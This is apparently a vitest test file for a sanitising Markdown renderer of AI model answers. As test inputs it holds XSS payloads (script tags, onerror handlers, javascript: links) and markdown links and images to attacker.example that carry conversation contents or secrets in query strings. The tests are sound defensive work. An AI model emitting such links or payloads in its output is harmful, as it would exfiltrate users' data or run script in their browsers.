import { describe, expect, it } from 'vitest';
import { markdownToSafeTree, safeTreeText, lexBlocks, type SafeElement, type SafeNode } from '../../../../packages/element/src/markdown/safe-tree.js';

/** Every element in a tree, depth first. */
function elements(nodes: readonly SafeNode[]): SafeElement[] {
  return nodes.flatMap((n) => (n.kind === 'element' ? [n, ...elements(n.children)] : []));
}
const tags = (source: string) => elements(markdownToSafeTree(source)).map((e) => e.tag);
const ALLOWED = new Set(['p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'pre', 'code', 'blockquote', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'em', 'strong', 'del', 'a', 'hr', 'br', 'span']);

describe('markdownToSafeTree', () => {
  it('maps the Markdown blocks and inlines the answer needs to allowed elements', () => {
    const source = [
      '# Title', '', 'Some *em*, **strong**, ~~del~~ and `code`.', '', '- one', '- two', '', '3. three', '4. four', '',
      '```js', 'let a = 1 < 2;', '```', '', '> quoted', '', '| a | b |', '|:--|--:|', '| 1 | 2 |', '', '---', '', 'line  ', 'break',
    ].join('\n');
    const tree = markdownToSafeTree(source);
    expect(tags(source)).toEqual([
      'h1', 'p', 'em', 'strong', 'del', 'code', 'ul', 'li', 'li', 'ol', 'li', 'li', 'pre', 'code', 'blockquote', 'p',
      'table', 'thead', 'tr', 'th', 'th', 'tbody', 'tr', 'td', 'td', 'hr', 'p', 'br',
    ]);
    const ol = elements(tree).find((e) => e.tag === 'ol')!;
    expect(ol.attrs.start).toBe(3);
    const pre = elements(tree).find((e) => e.tag === 'pre')!;
    expect(pre.attrs.language).toBe('js');
    expect(safeTreeText([pre])).toBe('let a = 1 < 2;');
    const cells = elements(tree).filter((e) => e.tag === 'th');
    expect(cells.map((c) => c.attrs.align)).toEqual(['left', 'right']);
  });

  it('renders raw HTML as text, block and inline, so no markup can come from model text', () => {
    const source = '<script>alert(1)</script>\n\nHello <img src=x onerror=alert(1)> <b onclick="x()">bold</b>\n\n<iframe src="https://evil.example"></iframe>\n\n<style>*{display:none}</style>';
    const tree = markdownToSafeTree(source);
    for (const e of elements(tree)) expect(ALLOWED.has(e.tag)).toBe(true);
    const text = safeTreeText(tree);
    expect(text).toContain('<script>alert(1)</script>');
    expect(text).toContain('<img src=x onerror=alert(1)>');
    expect(text).toContain('<b onclick="x()">');
    expect(text).toContain('<iframe src="https://evil.example"></iframe>');
    expect(elements(tree).filter((e) => e.attrs.rawHtml).length).toBeGreaterThanOrEqual(4);
  });

  it('keeps safe links, turns unsafe ones into plain text, and never produces an image', () => {
    const tree = markdownToSafeTree('[ok](https://a.example "T") [bad](javascript:alert(1)) [enc](javascript&#58;alert(1)) ![pic](https://img.example/x.png) ![evil](javascript:alert(1)) <https://auto.example> [ref][r]\n\n[r]: mailto:x@y.z');
    const links = elements(tree).filter((e) => e.tag === 'a');
    expect(links.map((a) => a.attrs.href)).toEqual(['https://a.example', 'https://img.example/x.png', 'https://auto.example', 'mailto:x@y.z']);
    expect(links[0]!.attrs.title).toBe('T');
    expect(links[1]!.attrs.image).toBe(true);
    expect(safeTreeText([links[1]!])).toBe('image: pic');
    const blocked = elements(tree).filter((e) => e.attrs.blockedHref);
    expect(blocked.map((b) => safeTreeText([b]))).toEqual(['bad', 'enc']);
    expect(safeTreeText(tree)).toContain('[image: evil]');
  });

  it('shows where every link and image link really goes, query string included, unless its text already says so', () => {
    const tree = markdownToSafeTree([
      '[the docs](https://attacker.example/c?q=the%20whole%20conversation)',
      '![chart](https://attacker.example/p.png?d=secret)',
      '[write to us](mailto:x@attacker.example?body=secret)',
      '[home](/index.html)',
      '<https://auto.example/path>',
      '<x@y.z>',
      '[https://good.example](https://attacker.example/)',
      '[xn](https://ехample.com/) [rtl](/a\u202Etxt.exe)',
    ].join(' '));
    const shown = elements(tree).filter((e) => e.attrs.destination).map((e) => safeTreeText([e]));
    expect(shown).toEqual([
      ' (https://attacker.example/c?q=the%20whole%20conversation)',
      ' (https://attacker.example/p.png?d=secret)',
      ' (mailto:x@attacker.example?body=secret)',
      ' (/index.html)',
      // a label that looks like a URL but is not the destination
      ' (https://attacker.example/)',
      // a homograph host in punycode, a right-to-left override encoded
      ' (https://xn--ample-ywe6i.com/)',
      ' (/a%E2%80%AEtxt.exe)',
    ]);
    expect(safeTreeText(tree)).toContain('image: chart (https://attacker.example/p.png?d=secret)');
    // The destination is text beside the link, not part of a link.
    const destinations = elements(tree).filter((e) => e.attrs.destination);
    expect(destinations.every((d) => d.tag === 'span' && d.children.every((c) => c.kind === 'text'))).toBe(true);
  });

  it('decodes entities in text but not in code', () => {
    const tree = markdownToSafeTree('a &amp; b `&amp;`\n\n```\n&lt;\n```');
    expect(safeTreeText(tree)).toBe('a & b &amp;&lt;');
  });

  it('renders task lists with a text box, and nested lists', () => {
    const tree = markdownToSafeTree('- [x] done\n- [ ] open\n  - nested *em*');
    expect(elements(tree).filter((e) => e.attrs.task).map((e) => e.attrs.task)).toEqual(['done', 'open']);
    expect(tags('- a\n  - b')).toEqual(['ul', 'li', 'ul', 'li']);
  });

  it('keeps unknown or unfinished constructs as text instead of dropping them', () => {
    expect(safeTreeText(markdownToSafeTree('```py\nprint("open fence'))).toBe('print("open fence');
    expect(safeTreeText(markdownToSafeTree('Text with [unclosed link(http://x'))).toBe('Text with [unclosed link(http://x');
    // A language label with odd characters is dropped, the code is kept.
    const pre = elements(markdownToSafeTree('```"><script>\nx\n```')).find((e) => e.tag === 'pre')!;
    expect(pre.attrs.language).toBeUndefined();
  });
});

describe('lexBlocks (the streaming split)', () => {
  it('block raws concatenate to the source, so committed offsets are exact', () => {
    const samples = ['# T\n\npara\n\n- a\n- b\n\n```\ncode\n```\n\n> q\n', 'x\r\ny', 'tail   ', '\n\n\nlead', '| a |\n|---|\n| 1 |'];
    for (const s of samples) {
      const normalized = s.replace(/\r\n?/g, '\n');
      expect(lexBlocks(normalized).map((t) => t.raw).join('')).toBe(normalized);
    }
  });

  it('carries reference definitions from committed blocks to later ones', () => {
    const links = Object.create(null);
    lexBlocks('[r]: https://r.example\n\n', links);
    const tokens = lexBlocks('see [it][r]', links);
    const link = (tokens[0] as { tokens: { type: string; href?: string }[] }).tokens.find((t) => t.type === 'link');
    expect(link?.href).toBe('https://r.example');
  });

  it('ignores a page-wide marked.use() extension (the lexer gets its own options)', async () => {
    const { marked } = await import('marked');
    marked.use({ extensions: [{ name: 'evil', level: 'inline', start: (src: string) => src.indexOf('!!'), tokenizer: (src: string) => (src.startsWith('!!') ? { type: 'evil', raw: '!!' } : undefined) }] });
    try {
      const inlineTypes = (lexBlocks('a !! b')[0] as { tokens: { type: string }[] }).tokens.map((t) => t.type);
      expect(inlineTypes).not.toContain('evil');
      // Even a token type the tree does not know would only ever become text.
      expect(safeTreeText(markdownToSafeTree('a !! b'))).toBe('a !! b');
    } finally {
      marked.setOptions(marked.getDefaults());
    }
  });
});
